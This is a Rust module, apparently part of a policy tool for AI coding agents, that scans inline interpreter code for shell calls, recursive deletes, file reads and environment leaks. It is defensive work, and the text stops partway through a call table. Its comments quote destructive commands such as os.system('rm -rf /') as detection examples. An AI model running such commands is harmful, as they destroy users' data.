//! Inline code of interpreters (`python -c`, `perl -e`, `ruby -e`, `node -e`,
//! `php -r`, `lua -e`, `Rscript -e`, `awk`, `sed`'s `e`, `vim -c ':!…'`,
//! `osascript -e`, a makefile on stdin): what the code does that a policy about
//! shell commands must see. Not a parser of these languages: a scan for the
//! calls that matter, with their literal arguments.
//!
//! * Shell-outs (`os.system`, `subprocess.run`, `system`, backticks,
//!   `child_process.execSync`, `shell_exec`, `os.execute`, awk `system` and
//!   `| getline`, …) become the shell text or the words they run.
//! * Deletes (`shutil.rmtree`, `FileUtils.rm_rf`, `fs.rmSync(…, {recursive})`,
//!   `File::Path::rmtree`, `unlink`, …) become the path they delete, recursive
//!   or not, so they are judged by where they reach as `rm` is.
//! * Reads of files (`open(…)`, `readFileSync`, `File.read`, …) become the
//!   path they read, so secret files stay protected.
//! * Reads of the environment that reach a print, a file or the network
//!   (`print(os.environ["T"])`, `console.log(process.env)`) become the
//!   variable they read and where it goes (see [`env`]).
//!
//! Names are found outside string literals and comments only, so code that
//! prints `"os.system('rm -rf /')"` is data. An argument that is not a literal
//! the scan can evaluate is an unknown value (`Piece::Unknown`), never safe.
//! Values the shell put into the code before the interpreter saw it (`"$HOME"`
//! inside `python -c "…"`) arrive as marker characters (see [`MARK_HOME`]).

use super::nesting::Literals;
use crate::shell::value::{Piece, Sym, Value};

mod dispatch;
mod env;

pub(crate) use env::Sink as EnvSink;

/// The language of inline code.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Lang {
    Python,
    Perl,
    Ruby,
    Js,
    Php,
    Lua,
    R,
    Awk,
    Sed,
    Vim,
    AppleScript,
    Make,
    Julia,
}

/// Something inline code does.
#[derive(Debug, Clone, PartialEq)]
pub(crate) enum Effect {
    /// Runs a shell command line.
    Shell(Sym),
    /// Runs a program with these words (no shell).
    Words(Vec<Value>),
    /// Deletes a path (recursively or not).
    Delete { recursive: bool, path: Value },
    /// Reads a file.
    Read(Value),
    /// Writes a file (`open(P, "w")`, `Path(P).write_text`, a copy's
    /// destination), appending or not.
    Write { path: Value, append: bool },
    /// Runs code or commands nobody can read beforehand.
    Dynamic,
    /// Reads an environment variable (`None`: the whole environment) and
    /// prints, saves or sends it: the shell's `printenv NAME` (or `env`).
    Env { name: Option<String>, sink: EnvSink },
}

/// Marker characters for values the shell substituted into the code.
pub(crate) const MARK_HOME: char = '\u{E010}';
pub(crate) const MARK_START: char = '\u{E011}';
pub(crate) const MARK_PROJECT: char = '\u{E012}';
pub(crate) const MARK_UNKNOWN: char = '\u{E013}';

/// Most effects one piece of code reports (bounds work on adversarial input).
const MAX_EFFECTS: usize = 64;

/// The text of a shell value, with markers where the interpreter will see
/// something the analysis resolves later (home) or cannot know.
pub(crate) fn code_text(s: &Sym) -> String {
    let mut out = String::new();
    for p in &s.0 {
        match p {
            Piece::Text(t) | Piece::Glob(t) => out.push_str(t),
            Piece::Home => out.push(MARK_HOME),
            Piece::Start => out.push(MARK_START),
            Piece::Project => out.push(MARK_PROJECT),
            _ => out.push(MARK_UNKNOWN),
        }
    }
    out
}

/// Text with marker characters (see [`code_text`]) as a value: each marker
/// becomes the piece it stands for.
pub(crate) fn marked(text: &str) -> Sym {
    let mut sym = Sym::default();
    let mut run = String::new();
    for c in text.chars() {
        if matches!(c, MARK_HOME | MARK_START | MARK_PROJECT | MARK_UNKNOWN) {
            sym.push(Piece::Text(std::mem::take(&mut run)));
            sym.push(marker_piece(c));
        } else {
            run.push(c);
        }
    }
    sym.push(Piece::Text(run));
    sym
}

/// The shell text of a value found in code, for re-parsing as a shell command.
pub(crate) fn shell_text(s: &Sym) -> String {
    let mut out = String::new();
    for p in &s.0 {
        match p {
            Piece::Text(t) | Piece::Glob(t) => out.push_str(t),
            Piece::Home => out.push_str("$HOME"),
            Piece::Start => out.push_str("$PWD"),
            Piece::Project => out.push_str("$CLAUDE_PROJECT_DIR"),
            _ => out.push_str("${__hookrules_unknown}"),
        }
    }
    out
}

/// What `code` in `lang` does.
pub(crate) fn scan(lang: Lang, code: &str) -> Vec<Effect> {
    scan_printing(lang, code, false)
}

/// What `code` in `lang` does, when the interpreter prints the value of the
/// code (`node -p`) or not.
pub(crate) fn scan_printing(lang: Lang, code: &str, prints_result: bool) -> Vec<Effect> {
    let _scope = Bindings::enter(lang, code);
    let mut out = match lang {
        Lang::Sed => sed(code),
        Lang::Vim => vim(code),
        Lang::Make => make(code),
        Lang::AppleScript => applescript(code),
        _ => calls(lang, code),
    };
    if !matches!(lang, Lang::Sed | Lang::Vim | Lang::Make | Lang::AppleScript) {
        out.extend(env::effects(lang, code, prints_result));
    }
    out.truncate(MAX_EFFECTS);
    out
}

// ------------------------------------------------------------ literals

/// A string literal starting at `i` (at its quote): its value and the index
/// after it. Interpolations the language performs become pieces.
fn literal_at(lang: Lang, src: &[char], i: usize) -> Option<(Sym, usize)> {
    let q = *src.get(i)?;
    if !matches!(q, '\'' | '"' | '`') {
        return None;
    }
    // Python's triple quotes.
    let triple = lang == Lang::Python && src.get(i + 1) == Some(&q) && src.get(i + 2) == Some(&q);
    let (mut k, close_len) = if triple { (i + 3, 3) } else { (i + 1, 1) };
    let fstring =
        lang == Lang::Python && i > 0 && src.get(i - 1).is_some_and(|c| matches!(c, 'f' | 'F'));
    let interpolates = q == '"'
        && matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php | Lang::Julia)
        || q == '`' && lang == Lang::Js
        || fstring;
    let raw_single = q == '\'' && matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php);
    let mut sym = Sym::default();
    let mut text = String::new();
    let flush = |sym: &mut Sym, text: &mut String| {
        if !text.is_empty() {
            sym.push(Piece::Text(std::mem::take(text)));
        }
    };
    loop {
        let c = *src.get(k)?;
        if c == q && (!triple || (src.get(k + 1) == Some(&q) && src.get(k + 2) == Some(&q))) {
            flush(&mut sym, &mut text);
            return Some((sym, k + close_len));
        }
        match c {
            '\\' => {
                let n = *src.get(k + 1)?;
                if raw_single && n != '\\' && n != q {
                    text.push('\\');
                    k += 1;
                    continue;
                }
                text.push(match n {
                    'n' => '\n',
                    't' => '\t',
                    c => c,
                });
                k += 2;
            }
            MARK_HOME | MARK_START | MARK_PROJECT | MARK_UNKNOWN => {
                flush(&mut sym, &mut text);
                sym.push(marker_piece(c));
                k += 1;
            }
            '$' if interpolates && matches!(lang, Lang::Perl | Lang::Php | Lang::Julia) => {
                // `$ENV{HOME}`, `$ENV{'HOME'}`, `$name`, `${name}`
                let rest: String = src.get(k..(k + 16).min(src.len()))?.iter().collect();
                let home = ["$ENV{HOME}", "$ENV{'HOME'}", "$ENV{\"HOME\"}"]
                    .iter()
                    .find(|h| rest.starts_with(*h));
                flush(&mut sym, &mut text);
                if let Some(h) = home {
                    sym.push(Piece::Home);
                    k += h.chars().count();
                } else if let Some((v, len)) = interpolated_variable(lang, src, k) {
                    sym.extend(&single(v));
                    k += len;
                } else if src
                    .get(k + 1)
                    .is_some_and(|c| c.is_alphanumeric() || *c == '_' || *c == '{')
                {
                    sym.push(Piece::Unknown("$…".into()));
                    k += 1;
                    while src
                        .get(k)
                        .is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '{' | '}'))
                    {
                        k += 1;
                    }
                } else {
                    text.push('$');
                    k += 1;
                }
            }
            '#' if interpolates && lang == Lang::Ruby && src.get(k + 1) == Some(&'{') => {
                let end = matching(src, k + 1)?;
                let inner: String = src.get(k + 2..end)?.iter().collect();
                flush(&mut sym, &mut text);
                sym.extend(&single(eval(lang, &inner)));
                k = end + 1;
            }
            '$' if interpolates && lang == Lang::Js && src.get(k + 1) == Some(&'{') => {
                let end = matching(src, k + 1)?;
                let inner: String = src.get(k + 2..end)?.iter().collect();
                flush(&mut sym, &mut text);
                sym.extend(&single(eval(lang, &inner)));
                k = end + 1;
            }
            '{' if fstring => {
                if src.get(k + 1) == Some(&'{') {
                    text.push('{');
                    k += 2;
                    continue;
                }
                let end = matching(src, k)?;
                let inner: String = src.get(k + 1..end)?.iter().collect();
                flush(&mut sym, &mut text);
                sym.extend(&single(eval(lang, &inner)));
                k = end + 1;
            }
            c => {
                text.push(c);
                k += 1;
            }
        }
    }
}

/// A variable the code bound, interpolated at `k` (its `$`) into a Perl or
/// PHP string (`"$h/x"`, `"${h}"`): its value and the characters it takes.
fn interpolated_variable(lang: Lang, src: &[char], k: usize) -> Option<(Value, usize)> {
    let braced = src.get(k + 1) == Some(&'{');
    let start = k + 1 + usize::from(braced);
    let mut e = start;
    while src.get(e).is_some_and(|c| c.is_alphanumeric() || *c == '_') {
        e += 1;
    }
    if e == start || (braced && src.get(e) != Some(&'}')) {
        return None;
    }
    // `$h{key}`, `$h[0]`, `$h->x`: an element, not the variable.
    if !braced && matches!(src.get(e), Some('{' | '[')) || src.get(e..e + 2) == Some(&['-', '>']) {
        return None;
    }
    let name: String = std::iter::once('$')
        .chain(src[start..e].iter().copied())
        .collect();
    let v = bound_value(lang, &name)?;
    Some((v, e + usize::from(braced) - k))
}

fn marker_piece(c: char) -> Piece {
    match c {
        MARK_HOME => Piece::Home,
        MARK_START => Piece::Start,
        MARK_PROJECT => Piece::Project,
        _ => Piece::Unknown("(from the shell)".into()),
    }
}

/// One alternative of a value (the first), for interpolation into text.
fn single(v: Value) -> Sym {
    v.0.into_iter().next().unwrap_or_else(|| Sym::unknown("…"))
}

/// Index of the bracket closing the one at `open`, skipping string literals.
fn matching(src: &[char], open: usize) -> Option<usize> {
    Literals::SCRIPT.close_in_chars(src, open)
}

/// Split an argument list at top-level commas.
fn split_args(s: &str) -> Vec<String> {
    Literals::SCRIPT.list(s)
}

// ------------------------------------------------------------ expressions

/// Expressions that are the home folder.
const HOME_EXPRS: &[&str] = &[
    // Neovim's Lua (`nvim -c 'lua …'`) and Vim script.
    "vim.env.HOME",
    "vim.env['HOME']",
    "vim.loop.os_homedir()",
    "vim.uv.os_homedir()",
    "vim.fn.expand('~')",
    "vim.fn.expand('$HOME')",
    "vim.fn.getenv('HOME')",
    "expand('~')",
    "expand('$HOME')",
    // Tcl and expect.
    "$env(HOME)",
    "$::env(HOME)",
    "Path.home()",
    "pathlib.Path.home()",
    "os.environ['HOME']",
    "os.environ[\"HOME\"]",
    "os.environ.get('HOME')",
    "os.environ.get(\"HOME\")",
    "os.getenv('HOME')",
    "os.getenv(\"HOME\")",
    "$ENV{HOME}",
    "$ENV{'HOME'}",
    "$ENV{\"HOME\"}",
    "Dir.home",
    "Dir.home()",
    "ENV['HOME']",
    "ENV[\"HOME\"]",
    "ENV.fetch('HOME')",
    "ENV.fetch(\"HOME\")",
    "process.env.HOME",
    "process.env['HOME']",
    "process.env[\"HOME\"]",
    "os.homedir()",
    "require('os').homedir()",
    "require(\"os\").homedir()",
    "Deno.env.get('HOME')",
    "Deno.env.get(\"HOME\")",
    "Bun.env.HOME",
    "getenv('HOME')",
    "getenv(\"HOME\")",
    "$_SERVER['HOME']",
    "$_ENV['HOME']",
    "Sys.getenv('HOME')",
    "Sys.getenv(\"HOME\")",
    "homedir()",
    "ENVIRON[\"HOME\"]",
    "ENVIRON['HOME']",
    "$_SERVER['HOME']",
    "$_ENV['HOME']",
    "getenv('HOME')",
    "os.getenv('HOME')",
    "os.environ['HOME']",
    "os.environ.get('HOME')",
    "process.env['HOME']",
    "ENV['HOME']",
    "ENV.fetch('HOME')",
    "$ENV{'HOME'}",
    "Deno.env.get('HOME')",
    "Sys.getenv('HOME')",
    "require('os').homedir()",
    "os.path.expanduser('~')",
    "expanduser('~')",
    "Path('~').expanduser()",
    "pathlib.Path('~').expanduser()",
    "pwd.getpwuid(os.getuid()).pw_dir",
    "pwd.getpwuid(os.getuid())[5]",
    "(getpwuid($<))[7]",
    "(getpwuid$<)[7]",
    "os.userInfo().homedir",
    "require('os').userInfo().homedir",
    "Etc.getpwuid.dir",
    "Etc.getpwuid().dir",
    "File.expand_path('~')",
    "posix_getpwuid(posix_getuid())['dir']",
    "os.homedir()",
];

/// Reads of the home variable that give a default when it is unset
/// (`os.environ.get('HOME', '/tmp')`): HOME is set wherever a command runs,
/// so they are home. Compared as [`HOME_EXPRS`] are, up to the `,`.
const HOME_WITH_DEFAULT: &[&str] = &[
    "os.environ.get('HOME',",
    "os.getenv('HOME',",
    "ENV.fetch('HOME',",
    "Sys.getenv('HOME',",
    "get(ENV,'HOME',",
];

/// Is `compact` (an expression without blanks) the home folder? `"…"` and
/// `'…'` are the same here, so `$_SERVER["HOME"]` is `$_SERVER['HOME']`.
fn is_home_expr(compact: &str) -> bool {
    let single = compact.replace('"', "'");
    HOME_EXPRS.contains(&single.as_str())
        || HOME_EXPRS.contains(&compact)
        || (single.ends_with(')') && HOME_WITH_DEFAULT.iter().any(|h| single.starts_with(h)))
}

/// Expressions that are the working directory.
const CWD_EXPRS: &[&str] = &[
    "os.getcwd()",
    "Path.cwd()",
    "pathlib.Path.cwd()",
    "process.cwd()",
    "Deno.cwd()",
    "Dir.pwd",
    "Dir.pwd()",
    "getcwd()",
    "getwd()",
];

/// Functions whose argument, a path starting with `~`, they expand to home.
const TILDE_EXPANDERS: &[&str] = &[
    "os.path.expanduser",
    "expanduser",
    "File.expand_path",
    "path.expand",
    // Vim's `expand('~/x')`, Neovim's `vim.fn.expand`.
    "vim.fn.expand",
    "expand",
    "glob",
];

// ------------------------------------------------------------ variables

std::thread_local! {
    /// The variables of the code being scanned (see [`Bindings`]).
    static BINDINGS: std::cell::RefCell<Vec<(String, Value)>> = const { std::cell::RefCell::new(Vec::new()) };
}

/// Most variables one piece of code binds (bounds work on adversarial input).
const MAX_BINDINGS: usize = 64;

/// The variables a piece of code assigns a path it computes (`h =
/// os.environ['HOME']`, `my $h = $ENV{HOME};`, `const h = os.homedir()`,
/// `local h = os.getenv("HOME")`), so that a later use of the variable (`'rm
/// -rf ' + h`, `"rm -rf $h"`, `#{h}`) is judged by that value. A variable
/// assigned more than once may be any of its values. Kept for the scan of
/// that code only (a thread-local: every expression the scan evaluates would
/// otherwise carry them), restored when the scan ends, so a nested scan
/// (vim's `:lua`) does not see or leak another language's variables.
struct Bindings {
    saved: Vec<(String, Value)>,
}

impl Bindings {
    fn enter(lang: Lang, code: &str) -> Bindings {
        let saved = BINDINGS.with(|b| std::mem::take(&mut *b.borrow_mut()));
        if !matches!(
            lang,
            Lang::Sed | Lang::Vim | Lang::Make | Lang::AppleScript | Lang::Awk
        ) {
            for (name, rhs) in assignments(lang, code) {
                let v = eval(lang, &rhs);
                if v.has_unknown() {
                    continue;
                }
                BINDINGS.with(|b| {
                    let mut b = b.borrow_mut();
                    if let Some(slot) = b.iter_mut().find(|(n, _)| *n == name) {
                        slot.1 = std::mem::take(&mut slot.1).union(&v);
                    } else if b.len() < MAX_BINDINGS {
                        b.push((name, v));
                    }
                });
            }
        }
        Bindings { saved }
    }
}

impl Drop for Bindings {
    fn drop(&mut self) {
        let saved = std::mem::take(&mut self.saved);
        BINDINGS.with(|b| *b.borrow_mut() = saved);
    }
}

/// The value of variable `name` (with its sigil: `$h` in Perl and PHP), when
/// the code assigned it one.
fn bound_value(lang: Lang, name: &str) -> Option<Value> {
    let plain = name.strip_prefix('$').unwrap_or(name);
    let ok = !plain.is_empty()
        && plain.chars().all(|c| c.is_alphanumeric() || c == '_')
        && !plain.starts_with(|c: char| c.is_ascii_digit())
        && (name.starts_with('$') == matches!(lang, Lang::Perl | Lang::Php));
    if !ok {
        return None;
    }
    BINDINGS.with(|b| {
        b.borrow()
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.clone())
    })
}

/// `NAME = EXPR` statements of `code` (after `my`, `our`, `local`, `const`,
/// `let`, `var`), in order, split at top-level `;` and line ends.
fn assignments(lang: Lang, code: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for line in code.lines() {
        for stmt in split_top(line, ";") {
            let mut st = stmt.trim();
            for kw in ["my ", "our ", "local ", "const ", "let ", "var "] {
                if let Some(r) = st.strip_prefix(kw) {
                    st = r.trim_start();
                }
            }
            let Some(eq) = st.find('=') else {
                continue;
            };
            let name = st[..eq].trim();
            let rhs = &st[eq + 1..];
            if rhs.starts_with(['=', '~'])
                || name.ends_with(['!', '<', '>', '+', '-', '*', '/', '.', '|', '&'])
            {
                continue;
            }
            if bound_name_ok(lang, name) {
                out.push((name.to_string(), rhs.trim().to_string()));
            }
            if out.len() >= MAX_BINDINGS {
                return out;
            }
        }
    }
    out
}

/// Is `name` a plain variable of `lang` (`$h` in Perl and PHP, `h` elsewhere)?
fn bound_name_ok(lang: Lang, name: &str) -> bool {
    let sigil = matches!(lang, Lang::Perl | Lang::Php);
    let plain = if sigil {
        match name.strip_prefix('$') {
            Some(p) => p,
            None => return false,
        }
    } else {
        name
    };
    !plain.is_empty()
        && plain.chars().all(|c| c.is_alphanumeric() || c == '_')
        && !plain.starts_with(|c: char| c.is_ascii_digit())
}

/// Functions (and methods with no argument, as `x.to_s`) whose value is the
/// path they are given, as text or a path object.
const TRANSPARENT: &[&str] = &[
    "str",
    "String",
    "os.fspath",
    "fspath",
    "os.path.abspath",
    "os.path.realpath",
    "os.path.normpath",
    "abspath",
    "realpath",
    "normpath",
    "path.normalize",
    "Pathname.new",
    "Pathname",
    "File.realpath",
    "Cwd::abs_path",
    "abs_path",
    "realpath",
    "tostring",
];

/// Methods with no argument whose value is their receiver's path.
const TRANSPARENT_METHODS: &[&str] = &[
    ".to_s",
    ".toString()",
    ".to_path",
    ".as_posix()",
    ".to_str()",
];

/// Calls that put their arguments side by side into one string.
const CONCATENATORS: &[&str] = &["string", "paste0"];

/// Functions that join path parts with `/`.
const JOINERS: &[&str] = &[
    "joinpath",
    "Path",
    "pathlib.Path",
    "PurePath",
    "PosixPath",
    "os.path.join",
    "path.join",
    "File.join",
    "file.path",
    "join",
    "resolve",
    "path.resolve",
    "catfile",
    "File::Spec->catfile",
];

/// What an expression may be: a literal, home, the working directory, a
/// concatenation or join of those, or unknown.
fn eval(lang: Lang, expr: &str) -> Value {
    let e = expr.trim();
    // `(Path.home() / ".bashrc")`
    if e.starts_with('(') {
        let chars: Vec<char> = e.chars().collect();
        if matching(&chars, 0) == Some(chars.len() - 1) {
            return eval(lang, &chars[1..chars.len() - 1].iter().collect::<String>());
        }
    }
    if let Some(inner) = e.strip_suffix(".expanduser()") {
        // `Path('~/x').expanduser()`
        let inner = inner.trim();
        let inner = inner
            .strip_prefix("pathlib.Path(")
            .or_else(|| inner.strip_prefix("Path("))
            .and_then(|r| r.strip_suffix(')'))
            .unwrap_or(inner);
        let v = eval(lang, inner);
        return Value(v.0.into_iter().map(|s| tilde(s, false)).collect());
    }
    let e = e
        .strip_suffix(".resolve()")
        .or_else(|| e.strip_suffix(".absolute()"))
        .unwrap_or(e)
        .trim();
    if let Some(inner) = TRANSPARENT_METHODS.iter().find_map(|m| e.strip_suffix(m)) {
        return eval(lang, inner);
    }
    let compact: String = e.chars().filter(|c| !c.is_whitespace()).collect();
    if is_home_expr(&compact) {
        return Value::one(Sym::piece(Piece::Home));
    }
    if let Some(v) = bound_value(lang, &compact) {
        return v;
    }
    if CWD_EXPRS.contains(&compact.as_str()) {
        return Value::one(Sym::piece(Piece::Start));
    }
    let chars: Vec<char> = e.chars().collect();
    // A whole literal.
    let lit_start = usize::from(
        lang == Lang::Python
            && chars
                .first()
                .is_some_and(|c| matches!(c, 'f' | 'r' | 'b' | 'F' | 'R')),
    );
    if let Some((sym, end)) = literal_at(lang, &chars, lit_start) {
        if end == chars.len() {
            return Value::one(if lang == Lang::R {
                tilde(sym, false)
            } else {
                sym
            });
        }
    }
    // awk concatenates what it writes side by side (`"ls " dir`).
    if lang == Lang::Awk {
        let parts = split_top(e, " ");
        if parts.len() > 1 {
            let mut v = Value::one(Sym::default());
            for p in parts.iter().filter(|p| !p.is_empty()) {
                v = v.concat(&eval(lang, p));
            }
            return v;
        }
    }
    // Alternatives: `A || B`, `A ?? B`, Python's `A or B` (a default when
    // A is unset or empty): either.
    for sep in [" || ", "||", " ?? ", " or "] {
        let parts = split_top(e, sep);
        if parts.len() > 1 && parts.iter().all(|p| !p.is_empty()) {
            let mut v = eval(lang, &parts[0]);
            for p in &parts[1..] {
                v = v.union(&eval(lang, p));
            }
            return v;
        }
    }
    // Concatenation: `+`, Perl's and PHP's `.` (with or without blanks),
    // Lua's `..`.
    let concat_ops: &[&str] = match lang {
        Lang::Perl | Lang::Php => &[" + ", "+", " . ", "."],
        Lang::Lua => &[" .. ", ".."],
        // Julia's `*` joins strings (`homedir() * "/x"`)
        Lang::Julia => &[" * ", "*"],
        _ => &[" + ", "+", " . "],
    };
    for sep in concat_ops {
        let parts = split_top(e, sep);
        // `1.5` and Perl's range `1..9` are not concatenations.
        let operands = parts
            .iter()
            .all(|p| !p.is_empty() && !p.starts_with(|c: char| c.is_ascii_digit()));
        if parts.len() > 1 && operands {
            let mut v = Value::one(Sym::default());
            for p in parts {
                v = v.concat(&eval(lang, &p));
            }
            return v;
        }
    }
    // Python's formatting: `'rm -rf %s' % x`, `'rm -rf {}'.format(x)`.
    if lang == Lang::Python {
        if let Some(v) = formatted(lang, e) {
            return v;
        }
    }
    // A call: `f(args)`.
    let call_open = (0..chars.len())
        .filter(|k| chars[*k] == '(')
        .find(|k| matching(&chars, *k) == Some(chars.len() - 1));
    if let Some(open) = call_open {
        {
            let name: String = chars[..open].iter().collect();
            let name = name.trim();
            let inner: String = chars[open + 1..chars.len() - 1].iter().collect();
            let args = split_args(&inner);
            let short = name.rsplit(['.', ':', '>']).next().unwrap_or(name);
            // `str(Path.home())`, `os.path.abspath(x)`: the same path.
            if TRANSPARENT.contains(&name) || TRANSPARENT.contains(&short) {
                if let [one] = args.as_slice() {
                    return eval(lang, one);
                }
            }
            if TILDE_EXPANDERS.contains(&name) || TILDE_EXPANDERS.contains(&short) {
                if let [one] = args.as_slice() {
                    let v = eval(lang, one);
                    return Value(v.0.into_iter().map(|s| tilde(s, short == "glob")).collect());
                }
            }
            // `Path.home().joinpath('.zshrc')`: the receiver, then the parts.
            if let Some(base) = name.strip_suffix(".joinpath") {
                let mut v = eval(lang, base);
                for a in &args {
                    v = v.concat(&Value::text("/")).concat(&eval(lang, a));
                }
                return v;
            }
            // `string(a, b)` (Julia), `paste0(a, b)` (R): the parts side by side.
            if CONCATENATORS.contains(&name) {
                let mut v = Value::one(Sym::default());
                for a in &args {
                    v = v.concat(&eval(lang, a));
                }
                return v;
            }
            if JOINERS.contains(&name) || JOINERS.contains(&short) {
                let mut v = Value::one(Sym::default());
                for (i, a) in args.iter().enumerate() {
                    let part = eval(lang, a);
                    // An absolute part starts over, as the joiners do.
                    let absolute = part.literal().is_some_and(|t| t.starts_with('/'));
                    if i > 0 && !absolute {
                        v = v.concat(&Value::text("/"));
                    }
                    v = if absolute { part } else { v.concat(&part) };
                }
                return v;
            }
        }
    }
    // Python's `/` on paths: `Path.home() / "x"`.
    let parts = split_top(e, " / ");
    if parts.len() > 1 {
        let mut v = eval(lang, &parts[0]);
        for p in &parts[1..] {
            v = v.concat(&Value::text("/")).concat(&eval(lang, p));
        }
        return v;
    }
    Value::unknown(e)
}

/// Python's `%` and `str.format` on a literal: the literal with each
/// `%s`/`%r`/`%d` (or `{}`, `{0}`) replaced by the value of its argument, in
/// order. `None` when `e` is neither.
fn formatted(lang: Lang, e: &str) -> Option<Value> {
    let (template, args) = if let [t, a] = split_top(e, "%").as_slice() {
        let a = a.trim();
        let inner = a
            .strip_prefix('(')
            .and_then(|r| r.strip_suffix(')'))
            .filter(|_| matching(&a.chars().collect::<Vec<_>>(), 0) == Some(a.chars().count() - 1));
        let args = match inner {
            Some(i) => split_args(i),
            None => vec![a.to_string()],
        };
        (t.clone(), args)
    } else {
        let open = e.find(".format(")?;
        let rest = &e[open + ".format".len()..];
        let chars: Vec<char> = rest.chars().collect();
        if matching(&chars, 0) != Some(chars.len() - 1) {
            return None;
        }
        let inner: String = chars[1..chars.len() - 1].iter().collect();
        (e[..open].to_string(), split_args(&inner))
    };
    let chars: Vec<char> = template.trim().chars().collect();
    let (lit, end) = literal_at(lang, &chars, 0)?;
    if end != chars.len() {
        return None;
    }
    let text = lit.literal()?;
    let mut out = Value::one(Sym::default());
    let mut next = args.iter();
    let mut rest = text.as_str();
    loop {
        let at = [
            rest.find("%s"),
            rest.find("%r"),
            rest.find("%d"),
            rest.find("{}"),
            rest.find("{0}"),
        ]
        .into_iter()
        .flatten()
        .min();
        let Some(at) = at else {
            out = out.concat(&Value::text(rest));
            return Some(out);
        };
        out = out.concat(&Value::text(&rest[..at]));
        let len = if rest[at..].starts_with("{0}") { 3 } else { 2 };
        out = match next.next() {
            Some(a) => out.concat(&eval(lang, a)),
            None => out.concat(&Value::unknown("…")),
        };
        rest = &rest[at + len..];
    }
}

/// `~` at the start of a path that a function expands (or R, which always
/// does); a pattern (`glob`) keeps its wildcards.
fn tilde(s: Sym, pattern: bool) -> Sym {
    match s.0.first() {
        Some(Piece::Text(t)) if t == "~" || t.starts_with("~/") => {
            let mut out = Sym::piece(Piece::Home);
            let rest = &t[1..];
            if pattern && rest.contains(['*', '?', '[']) {
                out.push(Piece::Glob(rest.to_string()));
            } else {
                out.push(Piece::Text(rest.to_string()));
            }
            for p in s.0.iter().skip(1) {
                out.push(p.clone());
            }
            out
        }
        _ if pattern => {
            let mut out = Sym::default();
            for p in s.0 {
                match p {
                    Piece::Text(t) if t.contains(['*', '?', '[']) => out.push(Piece::Glob(t)),
                    p => out.push(p),
                }
            }
            out
        }
        _ => s,
    }
}

/// Split at a top-level separator (outside brackets and literals), each
/// part trimmed.
fn split_top(s: &str, sep: &str) -> Vec<String> {
    Literals::SCRIPT
        .split(s, &[sep])
        .into_iter()
        .map(|p| p.trim().to_string())
        .collect()
}

// ------------------------------------------------------------ calls

/// How a call's arguments are read.
#[derive(Clone, Copy, PartialEq)]
enum Kind {
    /// A shell command line (or, as a list or several arguments, words).
    Shell,
    /// A program and a list of its arguments (`spawn('rm', ['-rf', x])`).
    ProgramList,
    /// A recursive delete of the first argument.
    DeleteTree,
    /// A delete, recursive when an argument says `recursive` is true.
    DeleteMaybeTree,
    /// A delete of one file (or of each argument, for Perl's `unlink`).
    Delete,
    /// A read of the first argument.
    Read,
    /// Perl's `open(FH, MODE, PATH)` / `open(FH, "<PATH")`.
    PerlOpen,
    /// A write of the first argument (appending when the name says so).
    Write,
    /// A write of the receiver (`Path(P).write_text(…)`).
    WriteReceiver,
    /// A copy or move: a read of the first argument, a write of the second.
    Copy,
    /// A listing or walk of the first argument's tree (`os.walk(P)`); a
    /// pattern (`glob.glob(P + '/**')`) is the folder before its wildcards.
    Walk,
    /// A listing or walk of the receiver's tree (`Path(P).rglob('*')`).
    WalkReceiver,
    /// Python's `exec`/`eval`: runs its argument as code.
    Exec,
    /// A program and its arguments, one argument each: the program at index
    /// `skip`, then (past its argv[0] when `argv0`) its words
    /// (`os.spawnlp(mode, 'rm', 'rm', '-rf', p)`: skip 1, argv0;
    /// `create_subprocess_exec('rm', '-rf', p)`: skip 0).
    ProgramArgs { skip: usize, argv0: bool },
    /// A change of mode or owner, the shell's `program` (`chmod`, `chown`)
    /// of each path: `lead` arguments (mode, owner) come first and the paths
    /// after them (Perl's `chmod(0755, @f)`, Ruby's `File.chmod`), or with
    /// `lead` 0 the path first and the mode after it (`os.chmod(p, 0)`); a
    /// method of a path object (`Path(p).chmod(0)`) changes its receiver.
    Meta { program: &'static str, lead: usize },
    /// A move or rename: the first argument is gone from where it was, the
    /// second written.
    Move,
    /// A link at the second argument to the first: the shell's `ln -s`
    /// (`hard`: `ln`).
    Link { hard: bool },
    /// A file cut to a length: the shell's `truncate` of the first argument.
    Truncate,
}

/// Per language: call names (the last component of a dotted name) and kinds.
fn table(lang: Lang) -> &'static [(&'static str, Kind)] {
    use Kind::*;
    /// A path, then the mode (`os.chmod(p, 0)`).
    const CHMOD: Kind = Meta {
        program: "chmod",
        lead: 0,
    };
    /// A path, then the owner (`os.chown(p, uid, gid)`).
    const CHOWN: Kind = Meta {
        program: "chown",
        lead: 0,
    };
    /// The mode, then paths (Perl's `chmod 0755, @f`, Ruby's `FileUtils.chmod`).
    const CHMOD_MODE_FIRST: Kind = Meta {
        program: "chmod",
        lead: 1,
    };
    /// The owner and group, then paths (Perl's `chown`, `FileUtils.chown`).
    const CHOWN_OWNER_FIRST: Kind = Meta {
        program: "chown",
        lead: 2,
    };
    /// `execl(path, arg0, args…)`.
    const EXEC_L: Kind = ProgramArgs {
        skip: 0,
        argv0: true,
    };
    /// `spawnl(mode, path, arg0, args…)`.
    const SPAWN_L: Kind = ProgramArgs {
        skip: 1,
        argv0: true,
    };
    /// `create_subprocess_exec(program, args…)`.
    const PROGRAM_ARGS: Kind = ProgramArgs {
        skip: 0,
        argv0: false,
    };
    /// Perl's `open2($out, $in, program, args…)`.
    const OPEN2: Kind = ProgramArgs {
        skip: 2,
        argv0: false,
    };
    /// Perl's `open3($in, $out, $err, program, args…)`.
    const OPEN3: Kind = ProgramArgs {
        skip: 3,
        argv0: false,
    };
    match lang {
        Lang::Python => &[
            ("system", Shell),
            ("popen", Shell),
            ("Popen", Shell),
            ("run", Shell),
            // fabric's `c.local(…)`, `fabric.api.local(…)`: a command line run here.
            ("local", Shell),
            ("call", Shell),
            ("check_call", Shell),
            ("check_output", Shell),
            ("getoutput", Shell),
            ("getstatusoutput", Shell),
            ("spawn", Shell),
            ("execvp", ProgramList),
            ("execv", ProgramList),
            ("execve", ProgramList),
            ("execvpe", ProgramList),
            ("posix_spawn", ProgramList),
            ("posix_spawnp", ProgramList),
            ("execl", EXEC_L),
            ("execlp", EXEC_L),
            ("execle", EXEC_L),
            ("execlpe", EXEC_L),
